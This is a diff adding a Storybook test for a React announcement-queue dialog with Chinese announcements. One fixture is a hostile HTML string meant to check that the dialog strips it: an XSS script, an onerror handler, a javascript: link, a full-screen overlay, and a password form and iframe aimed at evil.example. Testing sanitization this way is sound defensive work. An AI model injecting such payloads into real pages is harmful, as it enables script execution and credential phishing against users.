@@ -1,0 +1,55 @@
+import type { Meta, StoryObj } from '@storybook/react-vite'
+import { expect, fn, userEvent, waitFor, within } from 'storybook/test'
+import { AnnouncementQueue } from './announcement-queue'
+
+const hostile =
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">请立即<a href="javascript:alert(1)">点击这里</a></p>' +
+  '<img src="x" onerror="window.__pwned=true"><script>window.__pwned=true</script>' +
+  '<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>'
+
+const meta = {
+  title: 'Shell/AnnouncementQueue',
+  component: AnnouncementQueue,
+  args: {
+    onDone: fn(),
+    announcements: [
+      {
+        title: '系统升级通知',
+        content:
+          '<p>系统将于<strong>本周六 22:00</strong>升级，期间暂停服务。</p><ul><li>活动发布</li><li>时长补录</li></ul>',
+      },
+      {
+        title: '关于志愿服务时长的说明',
+        content: '<p>详见<a href="https://example.org/article/1">文章</a>。</p>',
+        bottomContent: '我已知悉',
+      },
+      { title: '可疑内容（已净化）', content: hostile },
+    ],
+  },
+} satisfies Meta<typeof AnnouncementQueue>
+
+export default meta
+type Story = StoryObj<typeof meta>
+
+export const QueueOfThree: Story = {
+  play: async ({ canvasElement, args }) => {
+    const body = within(canvasElement.ownerDocument.body)
+    const confirm = async (label: RegExp) => {
+      const dialog = await body.findByRole('alertdialog')
+      await userEvent.click(within(dialog).getByRole('button', { name: label }))
+    }
+    expect(await body.findByText('系统升级通知')).toBeInTheDocument()
+    await confirm(/确定|確定/)
+    expect(await body.findByText('关于志愿服务时长的说明')).toBeInTheDocument()
+    const link = await body.findByRole('link', { name: '文章' })
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
+    await confirm(/我已知悉/)
+    const dialog = await body.findByRole('alertdialog', { name: '可疑内容（已净化）' })
+    expect(dialog.querySelector('script, iframe, form, img, [onerror]')).toBeNull()
+    expect(dialog.querySelector('[style*="position"]')).toBeNull()
+    expect((window as { __pwned?: boolean }).__pwned).toBeUndefined()
+    await confirm(/确定|確定/)
+    await waitFor(() => expect(body.queryByRole('alertdialog')).toBeNull())
+    expect(args.onDone).toHaveBeenCalledOnce()
+  },
+}
